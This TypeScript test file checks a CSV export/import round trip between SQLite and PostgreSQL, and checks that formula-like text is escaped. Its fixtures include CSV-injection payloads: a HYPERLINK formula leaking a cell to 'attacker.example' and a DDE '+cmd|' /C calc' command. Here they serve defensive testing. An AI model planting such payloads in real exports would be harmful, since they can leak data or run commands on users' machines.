/**
 * Export and import round trip (docs/import.md, "Export"): demo data exported from one engine and
 * imported into a fresh database of the other (SQLite both ways round without PostgreSQL) gives the same
 * rows in every table the files cover, summaries in step, and the same report answers. Texts that a
 * spreadsheet would run as formulas are written escaped, and come back exactly as typed.
 */
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { ENGINES, freshEngine } from '../../test/support/engines';
import { runOperation } from '../../test/support/operation';
import { seed } from '../demo-data';
import type { Engine, EngineKind } from '../db/engine';
import { mainServiceOperations } from '../services/registry';
import { checkSummaries } from '../summaries/check';
import { rebuildSummaries } from '../summaries/upkeep';
import { createWarrantyRequest } from '../warranty/operations';
import { readCsvRecords } from './csv-records';
import { exportData } from './export';
import { findImportFiles } from './import-files';
import { runImport, type RejectLine } from './import-run';
import { TABLES_IN_LOAD_ORDER } from './tables';

const AS_OF = '2026-05-15';
const PAIRS: [EngineKind, EngineKind][] =
  ENGINES.length > 1
    ? [
        ['sqlite', 'postgres'],
        ['postgres', 'sqlite'],
      ]
    : [['sqlite', 'sqlite']];

/**
 * Report calls whose answers must not change across the round trip. Not SyncWarrantyReqList: the files
 * carry no warranty files (FileCount) and the import numbers the sync order anew (docs/import.md).
 */
const REPORTS: [string, Record<string, string>][] = [
  ['getSalesSummaryRecords', {}],
  ['getOrderVDeliverySummaryRecords', { FromDate: '2025-04-01', ToDate: AS_OF }],
  ['getSalesReportStats', { AsOf: AS_OF }],
  ['getCollectionStatements', { FromDate: '2026-04-01', ToDate: AS_OF }],
  ['getOpeningBalance', {}],
  ['getPCNList', {}],
  ['FillAreaManagers', {}],
];

/** What an officer typed in CreateWarrantyRequest (issue 50): cells a spreadsheet would run as formulas. */
const FORMULA_REQUEST = {
  Complaint: '=HYPERLINK("http://attacker.example/?leak="&B2,"x")',
  SerialNo: "+cmd|' /C calc'!A0",
  ClientRequestId: '@SUM(1+1)*cmd',
};

/**
 * Complaint descriptions stored as these texts: every start the escape covers, a text that starts with
 * the escape itself, and ordinary ones. Written to the database directly: the operations trim a tab or CR.
 */
const TYPED = [
  '=1+1',
  '+1',
  '-1',
  '-cmd',
  '@SUM(A1)',
  '\t=1+1',
  '\r=1+1',
  '\tTabbed',
  "'quoted'",
  "''twice",
  "'",
  "'=1+1",
  '=',
  'plain text',
  "it's",
  'a = b',
  '1-2',
];

/** Stores the texts above: a warranty request through the operation, and complaint descriptions. */
async function typeFormulas(engine: Engine): Promise<void> {
  const customer = await engine.db
    .selectFrom('customers')
    .select(['code', 'sales_officer_id'])
    .orderBy('code')
    .executeTakeFirstOrThrow();
  const product = await engine.db.selectFrom('products').select('code').orderBy('code').executeTakeFirstOrThrow();
  await runOperation(createWarrantyRequest, engine, {
    CustomerCode: customer.code,
    SalesOfficer: customer.sales_officer_id,
    ProductCode: product.code,
    ...FORMULA_REQUEST,
  });
  const complaints = await engine.db
    .selectFrom('complaints')
    .select('complaint_no')
    .orderBy('complaint_no')
    .limit(TYPED.length)
    .execute();
  expect(complaints).toHaveLength(TYPED.length);
  for (const [i, { complaint_no }] of complaints.entries()) {
    await engine.db
      .updateTable('complaints')
      .set({ description: TYPED[i] })
      .where('complaint_no', '=', complaint_no)
      .execute();
  }
}

/** A return, so that negative numbers are exported: a credit invoice of -5.00, its line of quantity -1. */
async function addReturn(engine: Engine): Promise<void> {
  const sold = await engine.db
    .selectFrom('invoice_lines')
    .innerJoin('invoices', 'invoices.invoice_no', 'invoice_lines.invoice_no')
    .select(['customer_code', 'sales_officer_id', 'profit_center_code', 'product_code', 'category_code'])
    .orderBy('invoice_lines.invoice_no')
    .executeTakeFirstOrThrow();
  const { product_code, category_code, ...invoice } = sold;
  await engine.db
    .insertInto('invoices')
    .values({ ...invoice, invoice_no: 'CR-1', invoice_date: AS_OF, order_no: null, amount: -500 })
    .execute();
  await engine.db
    .insertInto('invoice_lines')
    .values({
      invoice_no: 'CR-1',
      line_no: 1,
      product_code,
      category_code,
      quantity: -1,
      value: -500,
      order_no: null,
      order_line_no: null,
    })
    .execute();
  await rebuildSummaries(engine.db);
}

async function tableRows(engine: Engine, table: (typeof TABLES_IN_LOAD_ORDER)[number]): Promise<unknown[]> {
  const columns = table.columns.map((column) => column.name);
  const db = engine.db as unknown as import('kysely').Kysely<Record<string, Record<string, unknown>>>;
  return table.key.reduce((query, key) => query.orderBy(key), db.selectFrom(table.table).select(columns)).execute();
}

describe.each(PAIRS)('exported from %s, imported into %s', (from, to) => {
  let source: Engine;
  let target: Engine;
  let dir: string;
  const rejects: RejectLine[] = [];

  beforeAll(async () => {
    [source, target] = await Promise.all([freshEngine(from), freshEngine(to)]);
    await seed(source, { scale: 0.03, asOf: AS_OF });
    await typeFormulas(source);
    await addReturn(source);
    dir = fs.mkdtempSync(path.join(os.tmpdir(), 'export-'));
    const written = await exportData(source.db, dir);
    expect(written.map((file) => file.file)).toEqual(TABLES_IN_LOAD_ORDER.map((table) => `${table.table}.csv`));
    expect(fs.readdirSync(dir).filter((name) => name.endsWith('.partial'))).toEqual([]);
    const results = await runImport(
      target,
      findImportFiles(dir).files,
      { dryRun: false, dateOrder: 'DMY' },
      { reject: (r) => rejects.push(r), fileDone: () => undefined },
    );
    expect(results.every((result) => result.status === 'loaded')).toBe(true);
  }, 180_000);
  afterAll(async () => {
    await Promise.all([source?.close(), target?.close()]);
  });

  it('rejects nothing and gives every table the same rows', async () => {
    expect(rejects).toEqual([]);
    for (const table of TABLES_IN_LOAD_ORDER) {
      const [a, b] = await Promise.all([tableRows(source, table), tableRows(target, table)]);
      expect({ table: table.table, rows: b }).toEqual({ table: table.table, rows: a });
    }
  });

  it('writes no text cell a spreadsheet would run as a formula, and leaves negative numbers as they are', async () => {
    const request = fs
      .readFileSync(path.join(dir, 'warranty_requests.csv'), 'utf8')
      .split('\r\n')
      .find((line) => line.includes('/C calc'));
    expect(request).toContain(`,'@SUM(1+1)*cmd,`);
    expect(request).toContain(`,'+cmd|' /C calc'!A0,`);
    expect(request).toContain(`,"'=HYPERLINK(""http://attacker.example/?leak=""&B2,""x"")",`);
    const formulas: string[] = [];
    const negatives: string[] = [];
    for (const table of TABLES_IN_LOAD_ORDER) {
      for await (const records of readCsvRecords(path.join(dir, `${table.table}.csv`))) {
        for (const record of records) {
          if (!('fields' in record) || record.line === 1) continue;
          record.fields.forEach((cell, i) => {
            if (table.columns[i].type.kind === 'text' && /^[=+\-@\t\r]/.test(cell))
              formulas.push(`${table.table}: ${cell}`);
            if (table.columns[i].type.kind !== 'text' && cell.startsWith('-')) negatives.push(cell);
          });
        }
      }
    }
    expect(formulas).toEqual([]);
    expect(negatives.length).toBeGreaterThan(0);
    expect(negatives.filter((cell) => !/^-\d+(\.\d\d)?$/.test(cell))).toEqual([]);
  });

  it('gives back exactly the texts that were typed', async () => {
    const complaints = await target.db
      .selectFrom('complaints')
      .select('description')
      .orderBy('complaint_no')
      .limit(TYPED.length)
      .execute();
    expect(complaints.map((row) => row.description)).toEqual(TYPED);
    const request = await target.db
      .selectFrom('warranty_requests')
      .select(['complaint', 'serial_no', 'client_request_id'])
      .where('client_request_id', '=', FORMULA_REQUEST.ClientRequestId)
      .executeTakeFirstOrThrow();
    expect(request).toEqual({
      complaint: FORMULA_REQUEST.Complaint,
      serial_no: FORMULA_REQUEST.SerialNo,
      client_request_id: FORMULA_REQUEST.ClientRequestId,
    });
  });

  it('keeps the summaries in step and the report answers the same', async () => {
    expect((await checkSummaries(target.db)).inStep).toBe(true);
    for (const [name, fields] of REPORTS) {
      const operation = mainServiceOperations.find((op) => op.name === name)!;
      const [a, b] = await Promise.all([
        runOperation(operation, source, fields),
        runOperation(operation, target, fields),
      ]);
      expect({ name, answer: b }).toEqual({ name, answer: a });
    }
  });
});
